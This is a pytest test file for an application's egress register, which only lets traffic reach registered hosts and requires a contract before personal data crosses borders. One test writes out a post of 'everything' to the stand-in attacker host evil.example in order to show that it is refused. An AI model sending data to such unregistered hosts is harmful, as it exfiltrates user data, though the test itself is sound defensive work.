"""The egress register: what is not in it is not called, and what crosses the border says what it needs."""

from __future__ import annotations

import pytest
from tests.conftest import FixedClock

from zhanggui.kernel.db import Database
from zhanggui.kernel.egress import EgressDoor, EgressUse, UnregisteredHost
from zhanggui.trust import Ledger
from zhanggui.trust.engines.egress.crossing import country_of
from zhanggui.trust.errors import NoContract, UnknownHost
from zhanggui.trust.service.egress import EgressRegister
from zhanggui.trust.types.egress import Configured, RegisterHost

HOOK = Configured("hooks.tea.example.cn", EgressUse.OUTBOX)


def a_register(db: Database, clock: FixedClock, *configured: Configured) -> EgressRegister:
    ledger = Ledger(db=db, clock=clock, entropy=lambda n: bytes(n), shop="teahouse")
    return EgressRegister(db=db, clock=clock, ledger=ledger, configured=configured)


def kinds(register: EgressRegister) -> list[str]:
    return [entry.kind for entry in register.ledger.entries().items]


def test_a_host_that_nobody_registered_is_not_called(sqlite: Database, clock: FixedClock) -> None:
    register = a_register(sqlite, clock)

    with (
        pytest.raises(UnregisteredHost, match=r"evil\.example"),
        EgressDoor(register.require).client(EgressUse.OUTBOX) as client,
    ):
        client.post("https://evil.example/take", content=b"everything")

    assert kinds(register) == []


def test_naming_a_host_in_the_settings_registers_it_with_the_words_of_its_use(
    any_database: Database, clock: FixedClock
) -> None:
    register = a_register(any_database, clock, HOOK)

    register.require("Hooks.tea.example.CN", EgressUse.OUTBOX)
    register.require(HOOK.host, EgressUse.OUTBOX)

    (host,) = register.hosts()
    assert (host.host, host.country, host.source, host.is_personal) == (HOOK.host, "CN", "settings", True)
    assert "prices" in host.fields
    assert kinds(register) == ["egress.registered"]


def test_a_host_is_let_through_for_its_own_use_only(sqlite: Database, clock: FixedClock) -> None:
    register = a_register(sqlite, clock, HOOK)

    with pytest.raises(UnregisteredHost):
        register.require(HOOK.host, EgressUse.LLM)


def test_what_was_removed_stays_out_though_a_setting_or_a_file_names_it(
    any_database: Database, clock: FixedClock
) -> None:
    register = a_register(any_database, clock, HOOK)
    register.note("img.example.cn", EgressUse.PICTURES)

    for host, use in ((HOOK.host, HOOK.use), ("img.example.cn", EgressUse.PICTURES)):
        register.remove(host, use, "user:li")
        register.note(host, use)
        with pytest.raises(UnregisteredHost):
            register.require(host, use)

    assert register.hosts() == []
    assert kinds(register) == ["egress.registered", "egress.removed", "egress.removed"]


def test_what_was_removed_may_come_back_by_a_person(sqlite: Database, clock: FixedClock) -> None:
    register = a_register(sqlite, clock, HOOK)
    register.remove(HOOK.host, HOOK.use, "user:li")

    register.add(RegisterHost(host=HOOK.host, use=HOOK.use, country="CN"), "user:li")

    register.require(HOOK.host, HOOK.use)


def test_personal_data_do_not_cross_the_border_without_a_contract(sqlite: Database, clock: FixedClock) -> None:
    register = a_register(sqlite, clock)
    asked = RegisterHost(host="api.llm.example", use=EgressUse.LLM, country="US")

    with pytest.raises(NoContract, match="across the border"):
        register.add(asked, "user:li")

    told = register.add(RegisterHost(host="api.llm.example", use=EgressUse.LLM, country="US", contract="SCC 7"), "u")
    assert told.is_abroad
    assert told.needs == ("impact_assessment", "one_of_38", "separate_consent", "thresholds_40")


@pytest.mark.parametrize(
    ("country", "is_personal", "needs"),
    [("CN", True, ()), ("SG", False, ()), ("HK", True, ("impact_assessment", "one_of_38"))],
)
def test_what_is_needed_follows_from_where_and_what(
    sqlite: Database, clock: FixedClock, country: str, is_personal: bool, needs: tuple[str, ...]
) -> None:
    asked = RegisterHost(host="a.example", use=EgressUse.ALERTS, country=country, is_personal=is_personal, contract="c")

    assert a_register(sqlite, clock).add(asked, "u").needs[: len(needs) or None] == needs


def test_a_host_whose_country_nobody_said_counts_as_abroad(sqlite: Database, clock: FixedClock) -> None:
    register = a_register(sqlite, clock, Configured("hooks.example.com", EgressUse.OUTBOX))

    (host,) = register.hosts()

    assert (host.is_abroad, host.needs, host.at_ms, host.may_be_called) == (True, ("say_country",), 0, False)


@pytest.mark.parametrize("use", [use for use in EgressUse if use is not EgressUse.PICTURES])
def test_a_host_of_the_settings_is_not_called_before_somebody_says_where_it_is(
    sqlite: Database, clock: FixedClock, use: EgressUse
) -> None:
    register = a_register(sqlite, clock, Configured("hooks.example.com", use))

    with (
        pytest.raises(UnregisteredHost, match=r"in which country 'hooks\.example\.com'") as refused,
        EgressDoor(register.require).client(use) as client,
    ):
        client.post("https://hooks.example.com/in", content=b"u17 in Hangzhou")

    assert f"egress add SHOP hooks.example.com --use {use} --country" in (refused.value.hint or "")
    assert kinds(register) == []
    register.add(RegisterHost(host="hooks.example.com", use=use, country="CN"), "user:li")
    register.require("hooks.example.com", use)


def test_a_setting_sends_personal_data_abroad_only_under_a_contract(any_database: Database, clock: FixedClock) -> None:
    register = a_register(any_database, clock, Configured("api.openai.com", EgressUse.LLM))

    with pytest.raises(UnregisteredHost, match="is in US, would get personal data, and no contract"):
        register.require("api.openai.com", EgressUse.LLM)

    register.add(RegisterHost(host="api.openai.com", use=EgressUse.LLM, country="US", contract="SCC 7"), "user:li")
    register.require("api.openai.com", EgressUse.LLM)


def test_an_import_reads_pictures_from_hosts_of_which_nobody_said_where_they_are(
    sqlite: Database, clock: FixedClock
) -> None:
    register = a_register(sqlite, clock)
    register.note("img.example.com", EgressUse.PICTURES)

    register.require("img.example.com", EgressUse.PICTURES)


@pytest.mark.parametrize(
    ("host", "country"),
    [
        ("QYAPI.weixin.qq.com", "CN"),
        ("kms.cn-hangzhou.aliyuncs.com", "CN"),
        ("hooks.tea.example.cn", "CN"),
        ("10.0.0.7", "CN"),
        ("::1", "CN"),
        ("api.openai.com", "US"),
        ("notapi.openai.com.example", ""),
        ("8.8.8.8", ""),
    ],
)
def test_known_providers_and_the_own_network_need_no_word_about_their_country(host: str, country: str) -> None:
    assert country_of(host) == country


def test_a_host_that_is_not_there_is_not_removed(sqlite: Database, clock: FixedClock) -> None:
    with pytest.raises(UnknownHost):
        a_register(sqlite, clock).remove("a.example", EgressUse.LLM, "u")
